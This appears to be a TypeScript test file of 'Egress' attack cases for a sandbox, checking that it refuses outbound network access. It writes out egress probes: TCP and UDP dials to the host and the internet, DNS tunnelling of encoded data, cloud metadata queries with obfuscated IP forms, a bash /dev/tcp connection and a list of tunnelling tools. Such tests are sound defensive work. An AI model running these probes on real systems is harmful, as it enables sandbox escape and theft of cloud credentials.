import type { AttackCase } from "../attack-case.ts";
import { all, refuses, step } from "../judges.ts";
import { node, perl, sh } from "../program.ts";
import { DIALLED, UNSPOKEN } from "./egress-judges.ts";
import { PROXY } from "./proxy-client.ts";

const group = "Egress";

function offline(
  id: string,
  number: number,
  aim: string,
  harm: string,
  program: AttackCase["program"],
  host: readonly string[],
): AttackCase {
  return { id, number, group, aim, harm, program, ...all(refuses({ host }), DIALLED, UNSPOKEN) };
}

export const EGRESS: readonly AttackCase[] = [
  offline(
    "dial-directly",
    25,
    "Dials the host, its networks and the internet by TCP, IPv4 and IPv6.",
    "A connection opens.",
    node(
      String.raw`
      const own = process.env.ATTACK_ADDRESSES.split(",").filter(Boolean);
      const port = Number(process.env.ATTACK_PORT);
      const dial = (name, options) => attempt(name, () => within(3000, new Promise((resolve, reject) => { const socket = net.connect(options, () => { socket.write("attack"); resolve(); }); socket.on("error", reject); })));
      await Promise.all([...own, "127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "172.17.0.1", "192.168.0.1", "10.0.0.1", "169.254.1.1", "host.docker.internal", "gateway.docker.internal"].map((host) => dial("host:" + host, { host, port })));
      await Promise.all([["1.1.1.1", 443], ["8.8.8.8", 53], ["2606:4700:4700::1111", 443], ["2001:4860:4860::8888", 53], ["93.184.215.14", 80], ["example.com", 80]].map(([host, at]) => dial("internet:" + host, { host, port: at })));
    `,
      { timeoutMs: 60_000 },
    ),
    ["host", "internet"],
  ),
  offline(
    "dial-datagrams",
    25,
    "Sends UDP, ICMP and broadcast packets.",
    "One leaves.",
    perl(String.raw`
      my @own = split /,/, $ENV{ATTACK_ADDRESSES}; my $port = $ENV{ATTACK_UDP};
      for my $host (grep({ $_ !~ /^127\./ } @own), '8.8.8.8', '1.1.1.1', '172.17.0.1', '255.255.255.255', '224.0.0.251') {
        socket(my $s, AF_INET, SOCK_DGRAM, 17) or do { told("udp:$host", 0); next }; setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1);
        my $sent = send($s, 'attack', 0, pack_sockaddr_in($port, inet_aton($host))); told("udp:$host", defined $sent);
        socket(my $p, AF_INET, SOCK_DGRAM, 1) or do { told("icmp:$host", 0); next };
        $sent = send($p, pack('CCnnn', 8, 0, 0xf7fe, 0, 1), 0, pack_sockaddr_in(0, inet_aton($host))); told("icmp:$host", defined $sent);
      }
      if (socket(my $s, AF_INET6, SOCK_DGRAM, 17)) { for my $host ('2001:4860:4860::8888', 'ff02::1', 'fe80::1') { my $sent = send($s, 'attack', 0, Socket::pack_sockaddr_in6($port, Socket::inet_pton(AF_INET6, $host))); told("udp6:$host", defined $sent) } } else { told('udp6', 0) }
    `),
    ["udp", "icmp", "udp6"],
  ),
  offline(
    "tunnel-names",
    26,
    "Carries data out in the names that it asks name servers for.",
    "A question leaves.",
    node(
      String.raw`
      const dns = require("node:dns");
      for (const name of ["c2VjcmV0.forbidden.test", "example.com", "metadata.google.internal", "host.docker.internal"]) {
        await attempt("lookup:" + name, async () => (await within(8000, dns.promises.lookup(name))).address);
      }
      for (const server of ["8.8.8.8", "1.1.1.1", "127.0.0.1", "127.0.0.11", "127.0.0.53", "172.17.0.1", "169.254.169.253"]) {
        const resolver = new dns.promises.Resolver({ timeout: 800, tries: 1 }); resolver.setServers([server]);
        await attempt("ask:" + server, () => within(4000, resolver.resolve4("c2VjcmV0.forbidden.test")));
      }
      const said = spawnSync("getent", ["hosts", "example.com"], { timeout: 10000 }); told("lookup:getent", said.status === 0 ? true : "REFUSED");
    `,
      { timeoutMs: 120_000 },
    ),
    ["lookup", "ask"],
  ),
  offline(
    "metadata-directly",
    54,
    "Asks the clouds' metadata addresses.",
    "One answers.",
    node(
      String.raw`
      const dial = (host, port) => attempt("ask:" + host, () => within(3000, new Promise((resolve, reject) => { const socket = net.connect({ host, port }, () => resolve()); socket.on("error", reject); })));
      await Promise.all(["169.254.169.254", "169.254.170.2", "169.254.170.23", "100.100.100.200", "192.0.0.192", "168.63.129.16", "fd00:ec2::254", "fe80::a9fe:a9fe%lo", "metadata.google.internal", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"].map((host) => dial(host, 80)));
    `,
      { timeoutMs: 60_000 },
    ),
    ["ask"],
  ),
  offline(
    "host-sockets-by-name",
    25,
    "Dials abstract sockets of the host, which have no file.",
    "The host's program is reached.",
    node(String.raw`
      const dial = (name, path) => attempt(name, () => within(2000, new Promise((resolve, reject) => { const socket = net.connect({ path }, () => resolve()); socket.on("error", reject); })));
      await dial("dial:bait", "\0" + process.env.ATTACK_ABSTRACT);
      let listed = ""; try { listed = fs.readFileSync("/proc/net/unix", "utf8"); } catch {}
      for (const [, name] of listed.matchAll(/ @(\S+)$/gm)) await dial("dial:" + name, "\0" + name);
    `),
    ["dial"],
  ),
  offline(
    "own-network",
    25,
    "Gives itself network cards, routes and tunnels.",
    "One is made.",
    perl(String.raw`
      socket(my $s, AF_INET, SOCK_DGRAM, 0) or die; my $up = pack('a16 s', 'lo', 0x1 | 0x40);
      for my $name (qw(eth0 att0 tun0)) { my $ask = pack('a16 S x22', $name, 0x1002); sysopen(my $tun, '/dev/net/tun', O_RDWR) or do { told("card:tun/$name", 0); next }; told("card:tun/$name", ioctl($tun, 0x400454ca, $ask)) }
      my $route = "\0" x 120; told('route', ioctl($s, 0x890B, $route)); my $address = pack('a16 SSa4x8', 'eth0', 2, 0, inet_aton('10.9.9.9')); told('address', ioctl($s, 0x8916, $address));
      my @cards = map { m{([^/]+)$} } glob '/sys/class/net/*'; @cards = map { /^\s*([^:\s]+):/ ? $1 : () } split /\n/, slurp('/proc/net/dev') || '' unless @cards; $! = 2; told('found', scalar(grep { $_ ne 'lo' } @cards), @cards);
    `),
    ["card", "route", "address", "found"],
  ),
  {
    id: "be-reached",
    number: 38,
    group,
    aim: "Listens at a port on every address, for somebody outside to connect.",
    harm: "The host can reach it.",
    program: node(
      String.raw`const server = net.createServer((socket) => socket.end("inside")); await new Promise((resolve) => server.listen(47113, "::", resolve)); line("READY"); await pause(3000);`,
    ),
    meanwhile: [{ name: "dial", do: "dial", port: 47113 }],
    ...all(
      refuses({}),
      step("dial", ({ end }) => (end === "done" ? "The port is open." : undefined), {
        bite: { end: "done" },
        calm: { end: "refused" },
      }),
    ),
  },
  offline(
    "tunnels",
    38,
    "Looks for programs that open tunnels and lets them try.",
    "One gets through.",
    sh(
      'for tool in ssh curl wget nc ncat socat telnet ftp dig nslookup ping cloudflared openssl python3; do command -v $tool >/dev/null && echo "SAW $tool"; done; told dial:bash timeout 5 bash -c "exec 3<>/dev/tcp/1.1.1.1/80"; told dial:udp timeout 5 bash -c "echo x > /dev/udp/$(echo "$ATTACK_ADDRESSES" | tr , "\\n" | grep -v ^127 | head -n 1)/$ATTACK_UDP"; told dial:git timeout 10 git ls-remote https://example.com/a.git; told dial:npm timeout 20 npm view left-pad version --registry http://example.com',
      { timeoutMs: 60_000 },
    ),
    ["dial"],
  ),
  offline(
    "proxy-while-closed",
    25,
    "Asks the sandbox's own proxy for hosts in a phase that has no network.",
    "A request is passed on.",
    node(
      `${PROXY}for (const target of ["allowed.test:443", "example.com:443", "1.1.1.1:443", "127.0.0.1:22"]) { await connectTo("connect", target); await getFrom("get", "http://" + target + "/"); } told("connect:none", "REFUSED"); told("get:none", "REFUSED");`,
      { timeoutMs: 60_000 },
    ),
    ["connect", "get"],
  ),
];
